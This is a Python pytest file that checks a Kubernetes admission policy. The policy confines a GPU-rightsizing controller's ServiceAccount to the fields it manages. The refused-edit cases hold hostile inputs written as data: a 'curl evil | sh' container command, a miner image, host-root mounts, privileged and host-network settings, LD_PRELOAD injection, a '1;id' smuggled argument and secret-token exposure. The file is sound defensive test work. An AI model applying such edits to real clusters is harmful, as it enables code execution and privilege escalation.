"""The shipped admission policy refuses, from the controller's ServiceAccount, every edit outside the fields it
manages, even mixed into an edit it would allow; it leaves every other user alone."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from tests import vap
from tests.controllerfixture import deployment
from tests.test_admission_allowed import MPS_ENV, realistic

Edit = Callable[[dict[str, Any]], None]
OTHER_USERS = ["system:serviceaccount:kube-system:deployment-controller", "alice@example.com",
               "system:serviceaccount:gpu-rightsizer:default"]


def _pod(o: dict[str, Any]) -> dict[str, Any]:
    return o["spec"]["template"]["spec"]


def _vllm(o: dict[str, Any]) -> dict[str, Any]:
    return _pod(o)["containers"][0]


def _workload() -> dict[str, Any]:
    obj = realistic(deployment())  # args: --model M --gpu-memory-utilization 0.9 --max-num-seqs 256
    _vllm(obj)["env"] = copy.deepcopy(MPS_ENV)
    return obj


def _legit(o: dict[str, Any]) -> None:
    """An edit the controller makes, so each forbidden one below is tested mixed into an allowed one."""
    o["spec"]["replicas"] = 3
    _vllm(o)["args"][3] = "0.85"


WORKLOAD_EDITS: dict[str, tuple[Edit, str]] = {
    "image": (lambda o: _vllm(o).update(image="evil/miner:latest"), "only resources, env and args"),
    "command": (lambda o: _vllm(o).update(command=["sh", "-c", "curl evil | sh"]), "only resources, env and args"),
    "volumeMounts": (lambda o: _vllm(o)["volumeMounts"].append({"name": "host", "mountPath": "/host"}),
                     "only resources, env and args"),
    "container privileged": (lambda o: _vllm(o).update(securityContext={"privileged": True}),
                             "only resources, env and args"),
    "new container": (lambda o: _pod(o)["containers"].append({"name": "x", "image": "evil"}), "add, remove"),
    "container removed": (lambda o: _pod(o)["containers"].pop(), "add, remove"),
    "init container": (lambda o: _pod(o)["initContainers"][0].update(image="evil"), "containers and nodeSelector"),
    "serviceAccountName": (lambda o: _pod(o).update(serviceAccountName="admin"), "containers and nodeSelector"),
    "volumes": (lambda o: _pod(o)["volumes"].append({"name": "host", "hostPath": {"path": "/"}}),
                "containers and nodeSelector"),
    "hostNetwork": (lambda o: _pod(o).update(hostNetwork=True), "containers and nodeSelector"),
    "hostPID": (lambda o: _pod(o).update(hostPID=True), "containers and nodeSelector"),
    "pod securityContext": (lambda o: _pod(o).update(securityContext={"runAsUser": 0}), "containers and nodeSelector"),
    "tolerations": (lambda o: _pod(o)["tolerations"].append({"operator": "Exists"}), "containers and nodeSelector"),
    "another arg": (lambda o: _vllm(o)["args"].append("--trust-remote-code"), "values of --gpu-memory-utilization"),
    "an arg changed": (lambda o: _vllm(o)["args"].__setitem__(1, "evil/model"), "values of --gpu-memory-utilization"),
    "args reordered": (lambda o: _vllm(o)["args"].reverse(), "values of --gpu-memory-utilization"),
    "a flag's value not a number": (lambda o: _vllm(o)["args"].__setitem__(5, "$(HF_TOKEN)"), "only to a number"),
    "a flag= value not a number": (lambda o: _vllm(o)["args"].append("--max-num-seqs=1;id"), "only to a number"),
    "an SOH merges two args": (  # the policy's separator inside an arg would hide the arg after a value
        lambda o: _vllm(o).update(args=["--model", "M\x01x", "--gpu-memory-utilization", "0.9", "--max-num-seqs",
                                        "256"]), "values of --gpu-memory"),
    "another env var": (lambda o: _vllm(o)["env"].append({"name": "LD_PRELOAD", "value": "/x.so"}),
                        "only the env vars"),
    "an env var changed": (lambda o: _vllm(o)["env"][1].update(value="/evil"), "only the env vars"),
    "an MPS env var from a Secret": (
        lambda o: _vllm(o)["env"].__setitem__(0, {"name": "CUDA_MPS_ACTIVE_THREAD_PERCENTAGE",
                                                  "valueFrom": {"secretKeyRef": {"name": "db", "key": "pw"}}}),
        "only the env vars"),
    "cpu limit": (lambda o: _vllm(o)["resources"]["limits"].update(cpu="64"), "only GPU resources"),
    "resource claims": (lambda o: _vllm(o)["resources"].update(claims=[{"name": "gpu"}]), "only GPU resources"),
    "a label": (lambda o: o["metadata"]["labels"].update(app="other"), "metadata other than its annotations"),
    "owner": (lambda o: o["metadata"].update(ownerReferences=[{"kind": "X", "name": "y"}]), "metadata other"),
    "another annotation": (lambda o: o["metadata"]["annotations"].update(x="y"), "only its own annotations"),
    "the mode opt-in": (lambda o: o["metadata"]["annotations"].update({"rightsizer.io/mode": "Auto"}),
                        "only its own annotations"),
    "a pod label": (lambda o: o["spec"]["template"]["metadata"]["labels"].update(app="x"), "pod template annotations"),
    "a pod annotation": (lambda o: o["spec"]["template"]["metadata"].update(annotations={"x": "y"}),
                         "pod template annotations"),
    "selector": (lambda o: o["spec"]["selector"]["matchLabels"].update(app="x"), "only spec.replicas and the pod"),
    "strategy": (lambda o: o["spec"].update(strategy={"type": "Recreate"}), "only spec.replicas and the pod"),
}


@pytest.mark.parametrize("case", WORKLOAD_EDITS, ids=str)
def test_a_workload_edit_outside_the_managed_fields_is_refused(case: str) -> None:
    edit, why = WORKLOAD_EDITS[case]
    old = _workload()
    new = copy.deepcopy(old)
    _legit(new)
    assert vap.update("Deployment", old, vap.served(old, new)).allowed  # the legit part alone passes
    edit(new)
    verdict = vap.update("Deployment", old, vap.served(old, new))
    assert verdict.matched == ["gpu-rightsizer-workloads"]
    assert any(why in d for d in verdict.denials), verdict.denials
    for user in OTHER_USERS:  # anyone else is not this policy's business
        assert vap.update("Deployment", old, new, username=user).matched == []


M = deployment()["spec"]["template"]["spec"]["containers"][0]["args"][1]  # the model


@pytest.mark.parametrize(("args", "allowed"), [
    (["--model", M, "--gpu-memory-utilization", "0.8", "--max-num-seqs", "128"], True),
    (["--model", M, "--gpu-memory-utilization=0.8", "--max-num-seqs", "128"], False),  # a token went away
    (["--model", M, "--gpu-memory-utilization", "0.9", "--max-num-seqs", "256", "--max-num-seqs=32"], True),
    (["--model", M, "--gpu-memory-utilization", "0.9", "--max-num-seqs", "256", "--enforce-eager"], False),
    (["--model", M, "--gpu-memory-utilization", "0.9"], False),  # the bare flag went away with its value
    (["--gpu-memory-utilization", "0.9", "--model", M, "--max-num-seqs", "256"], False),
    (["--model", M, "--gpu-memory-utilization", "1e-1", "--max-num-seqs", ".5"], True),
    (["--model", M, "--gpu-memory-utilization", "0.9", "--max-num-seqs", "--model"], False),  # not a number
])
def test_vllm_args_only_their_two_values_move(args: list[str], allowed: bool) -> None:
    old = realistic(deployment())
    new = copy.deepcopy(old)
    _vllm(new)["args"] = args
    assert vap.update("Deployment", old, new).allowed is allowed


def test_a_flag_value_that_is_no_number_may_stay_but_is_never_written() -> None:
    old = realistic(deployment(args=["--model", "M", "--max-num-seqs", "$(SEQS)", "--gpu-memory-utilization", "0.9"]))
    new = copy.deepcopy(old)
    _vllm(new)["args"][5] = "0.8"
    assert vap.update("Deployment", old, new).allowed  # $(SEQS) unchanged
    _vllm(new)["args"][3] = "64"
    assert vap.update("Deployment", old, new).allowed
    assert not vap.update("Deployment", new, old).allowed  # a known limit: restoring it is refused too
    _vllm(new)["args"][3] = "$(OTHER)"
    assert not vap.update("Deployment", old, new).allowed


def _node() -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "Node", "metadata": {
        "name": "gpu-a", "labels": {"nvidia.com/mig.config": "all-disabled", "nvidia.com/gpu.product": "A100"},
        "annotations": {"node.alpha.kubernetes.io/ttl": "0"}},
        "spec": {"podCIDR": "10.0.1.0/24"}, "status": {"capacity": {"nvidia.com/gpu": "8"}}}


NODE_EDITS: dict[str, Edit] = {
    "a taint": lambda n: n["spec"].update(taints=[{"key": "x", "effect": "NoExecute"}]),
    "another label": lambda n: n["metadata"]["labels"].update({"node-role.kubernetes.io/control-plane": ""}),
    "a label changed": lambda n: n["metadata"]["labels"].update({"nvidia.com/gpu.product": "H100"}),
    "the MIG state label set": lambda n: n["metadata"]["labels"].update({"nvidia.com/mig.config.state": "success"}),
    "another annotation": lambda n: n["metadata"]["annotations"].update(x="y"),
    "podCIDR": lambda n: n["spec"].update(podCIDR="10.9.0.0/16"),
}


@pytest.mark.parametrize("case", NODE_EDITS, ids=str)
def test_a_node_edit_other_than_the_mig_label_and_cordon_is_refused(case: str) -> None:
    old = _node()
    new = copy.deepcopy(old)
    new["metadata"]["labels"]["nvidia.com/mig.config"] = "custom-a"
    new["spec"]["unschedulable"] = True
    assert vap.update("Node", old, new).allowed
    NODE_EDITS[case](new)
    verdict = vap.update("Node", old, new)
    assert verdict.matched == ["gpu-rightsizer-nodes"] and not verdict.allowed


def _scaled_object() -> dict[str, Any]:
    return {"apiVersion": "keda.sh/v1alpha1", "kind": "ScaledObject", "metadata": {"name": "s", "namespace": "llm"},
            "spec": {"scaleTargetRef": {"name": "llama"}, "minReplicaCount": 1, "maxReplicaCount": 10,
                     "triggers": [{"type": "prometheus", "metadata": {"query": "sum(a)", "threshold": "5"}},
                                  {"type": "prometheus", "metadata": {"query": "sum(b)", "threshold": "9"}}]}}


SO_EDITS: dict[str, Edit] = {
    "target": lambda s: s["spec"]["scaleTargetRef"].update(name="coredns"),
    "a query": lambda s: s["spec"]["triggers"][0]["metadata"].update(query="sum(x)"),
    "a trigger added": lambda s: s["spec"]["triggers"].append({"type": "cron", "metadata": {}}),
    "a trigger replaced": lambda s: s["spec"]["triggers"].__setitem__(1, {"type": "cpu", "metadata": {}}),
    "an annotation": lambda s: s["metadata"].update(annotations={"autoscaling.keda.sh/paused": "true"}),
    "advanced": lambda s: s["spec"].update(advanced={"restoreToOriginalReplicaCount": True}),
}


@pytest.mark.parametrize("case", SO_EDITS, ids=str)
def test_a_scaledobject_edit_other_than_bounds_and_thresholds_is_refused(case: str) -> None:
    old = _scaled_object()
    new = copy.deepcopy(old)
    new["spec"] |= {"minReplicaCount": 2, "maxReplicaCount": 6}
    new["spec"]["triggers"][1]["metadata"]["threshold"] = "14"
    assert vap.update("ScaledObject", old, new).allowed
    SO_EDITS[case](new)
    verdict = vap.update("ScaledObject", old, new)
    assert verdict.matched == ["gpu-rightsizer-autoscalers"] and not verdict.allowed


def test_hpa_bounds_move_and_nothing_else() -> None:
    old = {"apiVersion": "autoscaling/v2", "kind": "HorizontalPodAutoscaler",
           "metadata": {"name": "h", "namespace": "a"},
           "spec": {"scaleTargetRef": {"kind": "Deployment", "name": "llama"}, "minReplicas": 1, "maxReplicas": 4,
                    "metrics": [{"type": "Resource", "resource": {"name": "cpu"}}]}}
    new = copy.deepcopy(old)
    new["spec"] |= {"minReplicas": 2, "maxReplicas": 8}
    assert vap.update("HorizontalPodAutoscaler", old, new).allowed
    new["spec"]["metrics"] = []
    assert not vap.update("HorizontalPodAutoscaler", old, new).allowed


def test_the_mig_parted_configmap_changes_only_in_config_yaml() -> None:
    old = {"apiVersion": "v1", "kind": "ConfigMap", "data": {"config.yaml": "version: v1\n", "other": "x"},
           "metadata": {"name": "gpu-rightsizer-mig-parted-config", "namespace": "gpu-operator"}}
    new = copy.deepcopy(old)
    new["data"]["config.yaml"] = "version: v1\nmig-configs: {}\n"
    assert vap.update("ConfigMap", old, new).allowed
    for edit in ({"data": {"config.yaml": "", "other": "y"}}, {"immutable": True},
                 {"metadata": {**old["metadata"], "labels": {"x": "y"}}}):
        assert not vap.update("ConfigMap", old, {**new, **edit}).allowed, edit


@pytest.mark.parametrize(("operation", "kind", "name", "secret_type", "allowed"), [
    ("CREATE", "Secret", "gpu-rightsizer-signing-key", "Opaque", True),
    ("CREATE", "Secret", "admin-token", "kubernetes.io/service-account-token", False),
    ("CREATE", "Secret", "gpu-rightsizer-signing-key", "kubernetes.io/service-account-token", False),
    ("DELETE", "Secret", "gpu-rightsizer-signing-key", "Opaque", False),
    ("CREATE", "Deployment", "miner", None, False),
    ("DELETE", "Deployment", "llama", None, False),
    ("DELETE", "Node", "gpu-a", None, False),
    ("CREATE", "ConfigMap", "x", None, False),
])
def test_it_creates_only_its_signing_key_and_deletes_nothing(operation: str, kind: str, name: str,
                                                              secret_type: str | None, allowed: bool) -> None:
    group, version, resource = vap.RESOURCES[kind]
    ns = "" if kind == "Node" else "gpu-rightsizer"
    obj = {"apiVersion": "v1", "kind": kind, "metadata": {"name": name, "namespace": ns}, "type": secret_type}
    new, old = (obj, None) if operation == "CREATE" else (None, obj)
    verdict = vap.review(vap.shipped(), vap.Request(operation, group, resource, kind, name, ns, version=version),
                         new, old)
    assert verdict.matched and verdict.allowed is allowed
    other = vap.Request(operation, group, resource, kind, name, ns, OTHER_USERS[1], version)
    assert vap.review(vap.shipped(), other, new, old).matched == []


def test_the_device_plugin_configmap_is_written_only_where_it_is_ours() -> None:
    def cm(labels: dict[str, str]) -> dict[str, Any]:
        return {"apiVersion": "v1", "kind": "ConfigMap", "data": {"a100-ts-2": "version: v1\n"},
                "metadata": {"name": "rightsizer-device-plugin", "namespace": "gpu-operator", "labels": labels}}
    for labels, allowed in (({"app.kubernetes.io/managed-by": "gpu-rightsizer"}, True), ({}, False),
                            ({"app.kubernetes.io/managed-by": "gpu-operator"}, False)):
        old = cm(labels)
        new = copy.deepcopy(old)
        new["data"]["a100-ts-4"] = "version: v1\n"
        assert vap.update("ConfigMap", old, new).allowed is allowed, labels
    old = cm({"app.kubernetes.io/managed-by": "gpu-rightsizer"})
    assert not vap.update("ConfigMap", old, {**old, "data": {}}).allowed  # no key removed


def test_the_device_plugin_label_and_state_may_be_set_on_a_node() -> None:
    old = _node()
    new = copy.deepcopy(old)
    new["metadata"]["labels"]["nvidia.com/device-plugin.config"] = "a100-ts-4"
    new["metadata"]["annotations"]["rightsizer.io/device-plugin-change"] = "{}"
    new["spec"]["unschedulable"] = True
    assert vap.update("Node", old, new).allowed


def _dra_workload() -> dict[str, Any]:
    from tests.test_kubernetes_dra import dra_deployment
    obj = dra_deployment()[0]
    obj["metadata"] |= {"generation": 1, "resourceVersion": "1"}
    return obj


@pytest.mark.parametrize(("entry", "allowed"), [
    ({"name": "gpu", "resourceClaimTemplateName": "chat-gpu-1g-10gb"}, True),  # to ours
    ({"name": "gpu", "resourceClaimTemplateName": "miner"}, False),  # to someone else's
    ({"name": "gpu", "resourceClaimName": "chat-gpu-1g-10gb"}, False),  # template to claim
    ({"name": "gpu2", "resourceClaimTemplateName": "chat-gpu-1g-10gb"}, False),  # renamed entry
    ({"name": "gpu", "resourceClaimTemplateName": "chat-mig", "x": 1}, False),  # another field
])
def test_a_resource_claims_entry_moves_only_to_a_claim_made_for_the_workload(entry: dict[str, Any],
                                                                               allowed: bool) -> None:
    old = _dra_workload()
    new = copy.deepcopy(old)
    new["spec"]["template"]["spec"]["resourceClaims"] = [entry]
    assert vap.update("Deployment", old, new).allowed is allowed
    added = copy.deepcopy(old)
    added["spec"]["template"]["spec"]["resourceClaims"].append({"name": "more", "resourceClaimName": "chat-gpu-x"})
    assert not vap.update("Deployment", old, added).allowed
    back = vap.update("Deployment", new, old)  # the rollback: from ours back to theirs
    assert back.allowed is (allowed and entry["resourceClaimTemplateName"].startswith("chat-gpu-"))


def _claim_object(**meta: Any) -> dict[str, Any]:
    owner = {"apiVersion": "apps/v1", "kind": "Deployment", "name": "chat", "uid": "u"}
    base = {"name": "chat-gpu-1g-10gb", "namespace": "llm", "ownerReferences": [owner],
            "labels": {"app.kubernetes.io/managed-by": "gpu-rightsizer"}}
    return {"apiVersion": "resource.k8s.io/v1", "kind": "ResourceClaimTemplate", "metadata": base | meta,
            "spec": {"spec": {"devices": {"requests": []}}}}


@pytest.mark.parametrize(("operation", "obj", "allowed"), [
    ("CREATE", _claim_object(), True),
    ("CREATE", _claim_object(labels={}), False),
    ("CREATE", _claim_object(name="llm-shared"), False),  # not named for its owner
    ("CREATE", _claim_object(ownerReferences=[]), False),
    ("CREATE", _claim_object(ownerReferences=[{"apiVersion": "v1", "kind": "Pod", "name": "chat", "uid": "u"}]), False),
    ("DELETE", _claim_object(), True),
    ("DELETE", _claim_object(labels={"app.kubernetes.io/managed-by": "helm"}), False),
    ("UPDATE", _claim_object(), False),
])
def test_dra_claim_objects_are_created_and_deleted_only_as_ours(operation: str, obj: dict[str, Any],
                                                                allowed: bool) -> None:
    new, old = {"CREATE": (obj, None), "DELETE": (None, obj), "UPDATE": (obj, obj)}[operation]
    verdict = vap.write(operation, "ResourceClaimTemplate", old, new)
    assert verdict.matched and verdict.allowed is allowed, verdict
